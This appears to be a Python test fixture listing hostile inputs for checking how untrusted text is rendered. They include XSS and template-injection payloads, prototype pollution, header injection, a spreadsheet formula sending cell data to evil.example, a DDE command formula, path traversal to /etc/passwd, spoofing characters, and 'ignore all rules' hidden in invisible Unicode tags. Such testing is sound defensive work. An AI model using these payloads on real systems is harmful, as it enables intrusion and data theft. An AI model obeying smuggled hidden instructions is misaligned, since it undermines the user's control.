"""What an attacker writes wherever text is taken: markup, templates, formulas, what hides or turns
around. Each tries to set `pwned` on the window that shows it; a browser that did would tell.
"""

from __future__ import annotations

from typing import Final

HOSTILE: Final[dict[str, str]] = {
    "script": "<script>window.pwned='script'</script>",
    "closing": "</script></style></title></textarea><script>window.pwned='closing'</script>",
    "handler": "<img src=x onerror=window.pwned='handler'>",
    "attribute": "\" onfocus=window.pwned='attribute' autofocus x=\"",
    "quote": "' onmouseover=window.pwned='quote' style='animation:x' x='",
    "svg": "<svg onload=window.pwned='svg'><animate onbegin=window.pwned='svg' dur=1s></svg>",
    "url": "javascript:window.pwned='url'//",
    "link": "<a href=\"javascript:window.pwned='link'\">click</a>",
    "frame": "<iframe srcdoc=\"<script>parent.pwned='frame'</script>\"></iframe>",
    "comment": "--><script>window.pwned='comment'</script><!--",
    "cdata": "]]><script>window.pwned='cdata'</script>",
    "entity": "&lt;script&gt;window.pwned=&#39;entity&#39;&lt;/script&gt;",
    "template": "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('1')()}}",
    "script-string": "';window.pwned='script-string';//\\u0027\\\";window.pwned=1;//",
    "json": '"}],"__proto__":{"pwned":1},"x":[{"y":"',
    "event-stream": 'x\n\ndata: {"rows":[]}\nevent: close\nid: 9\r\n\r\n',
    "header": "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.pwned='header'</script>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bidi": "invoice\u202egnp.exe\u202c \u2066\u2067\u2069 \u200f",
    "zero-width": "pay\u200b\u200c\u200d\u2060\ufeffpal",
    "blank": "\u3164\u115f\u2800\u00ad\u034f",
    "control": "\x01\x07\x08\x1b[31mred\x1b]8;;http://evil.example\x07\x7f\x85",
    "nul": "before\x00after",
    "tags": "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "homoglyph": "\u0440\u0430\u0443\u0440\u0430l.example",
    "emoji": "\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308",
    "marks": "Z" + "\u0351\u036b\u0343" * 40,
    "long": "W" * 400,
    "path": "../../../../etc/passwd?x=1#/../",
    "percent": "%3Cscript%3E%00%0d%0a%252e",
}
"""By what they are."""
